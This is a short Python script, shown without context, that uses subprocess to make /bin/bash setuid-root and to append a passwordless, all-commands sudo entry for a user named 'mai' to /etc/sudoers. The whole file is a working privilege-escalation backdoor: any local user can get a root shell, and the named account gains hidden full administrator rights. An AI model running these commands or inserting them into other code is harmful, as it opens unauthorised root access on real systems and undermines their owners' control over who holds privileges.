import subprocess

subprocess.run(["sudo", "chmod", "u+s", "/bin/bash"])
subprocess.run("echo 'mai ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", shell=True)
